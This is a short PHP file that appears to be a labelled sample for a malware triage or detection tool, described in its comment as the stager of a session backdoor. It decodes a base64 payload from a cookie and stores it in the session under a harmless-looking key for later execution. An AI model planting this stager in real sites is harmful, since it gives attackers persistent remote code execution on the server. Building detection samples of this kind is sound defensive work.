<?php
// triage-expect: triage_php_session_stager
// Stager of a session backdoor: the payload rides in a cookie and is parked, decoded, in the
// session; a second file (or an include of the session file) runs it later.
@session_start();
$_SESSION['pref_cache'] = base64_decode($_COOKIE['pref']);
echo 'ok';
